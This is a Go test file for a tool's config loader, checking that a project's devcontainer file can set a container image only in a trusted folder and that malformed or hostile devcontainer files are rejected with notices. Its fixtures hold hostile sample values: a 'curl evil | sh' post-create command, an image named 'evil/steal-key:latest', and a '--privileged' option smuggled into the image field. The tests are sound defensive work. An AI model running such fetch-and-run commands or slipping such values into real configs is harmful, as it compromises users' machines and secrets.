package config

import (
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
)

// TestDevcontainerImage: a trusted project's devcontainer file gives the
// container image when the person's config names none; comments are
// allowed, nothing but "image" is read, and the person's own image wins.
func TestDevcontainerImage(t *testing.T) {
	const dev = "{\n  // the toolchain\n  \"name\": \"app\", /* more */\n  \"image\": \"ghcr.io/acme/toolchain:1.2\",\n  \"postCreateCommand\": \"curl evil | sh\",\n}\n"
	w := newConfigWorld(t, "[subagents]\nrunner = \"container\"\n", "")
	writeFile(t, filepath.Join(w.workspace, ".devcontainer", "devcontainer.json"), dev)
	cfg := w.loadAs(t, true)
	if cfg.Container.Image != "ghcr.io/acme/toolchain:1.2" || !strings.Contains(strings.Join(cfg.Notices, "\n"), "the image .devcontainer/devcontainer.json names") {
		t.Fatalf("image %q, notices %q", cfg.Container.Image, cfg.Notices)
	}
	w2 := newConfigWorld(t, "[runner.container]\nimage = \"mine:1\"\n", "")
	writeFile(t, filepath.Join(w2.workspace, ".devcontainer", "devcontainer.json"), dev)
	if cfg := w2.loadAs(t, true); cfg.Container.Image != "mine:1" {
		t.Fatalf("the person's image lost to the project's: %q", cfg.Container.Image)
	}
}

// TestDevcontainerImageNeedsTrust: an untrusted repository's devcontainer
// file does not choose the image children (and the key) are handed to,
// and the person is told.
func TestDevcontainerImageNeedsTrust(t *testing.T) {
	w := newConfigWorld(t, "[subagents]\nrunner = \"container\"\n", "")
	writeFile(t, filepath.Join(w.workspace, ".devcontainer", "devcontainer.json"), `{"image": "evil/steal-key:latest"}`)
	cfg := w.loadAs(t, false)
	if cfg.Container.Image != "" {
		t.Fatalf("an untrusted repository chose the image %q", cfg.Container.Image)
	}
	if !strings.Contains(strings.Join(cfg.Notices, "\n"), `"evil/steal-key:latest" not used: this folder is not trusted`) {
		t.Fatalf("notices %q", cfg.Notices)
	}
}

// TestHostileDevcontainerFile: a devcontainer file that is too large,
// too deep, a link out of the workspace, a FIFO or names no plausible
// image is a notice; baton starts and uses no image from it.
func TestHostileDevcontainerFile(t *testing.T) {
	outside := filepath.Join(t.TempDir(), "devcontainer.json")
	writeFile(t, outside, `{"image": "outside:1"}`)
	cases := []struct {
		name, want string
		make       func(path string)
	}{
		{"large", "larger than 64 KiB", func(p string) {
			writeFile(t, p, `{"image": "big:1", "x": "`+strings.Repeat("a", 70<<10)+`"}`)
		}},
		{"deep", "nest", func(p string) { writeFile(t, p, strings.Repeat("[", 5000)) }},
		{"link out", "outside", func(p string) {
			if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
				t.Fatal(err)
			}
			if err := os.Symlink(outside, p); err != nil {
				t.Fatal(err)
			}
		}},
		{"fifo", "skipped", func(p string) {
			if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
				t.Fatal(err)
			}
			if err := syscall.Mkfifo(p, 0o644); err != nil {
				t.Skip("no FIFOs here:", err)
			}
		}},
		{"option", "not an image reference", func(p string) { writeFile(t, p, `{"image": "--privileged"}`) }},
		{"escapes", "not an image reference", func(p string) { writeFile(t, p, `{"image": "a\u001b[2Jb"}`) }},
		{"not a string", "not an image reference", func(p string) { writeFile(t, p, `{"image": {"name": "x"}}`) }},
		{"broken", "skipped", func(p string) { writeFile(t, p, `{"image": `) }},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			w := newConfigWorld(t, "[subagents]\nrunner = \"container\"\n", "")
			tc.make(filepath.Join(w.workspace, ".devcontainer", "devcontainer.json"))
			cfg := w.loadAs(t, true)
			if cfg.Container.Image != "" {
				t.Fatalf("image %q from a hostile file", cfg.Container.Image)
			}
			notes := strings.Join(cfg.Notices, "\n")
			if !strings.Contains(notes, ".devcontainer/devcontainer.json") || !strings.Contains(notes, tc.want) {
				t.Fatalf("notices %q, want %q", notes, tc.want)
			}
		})
	}
}
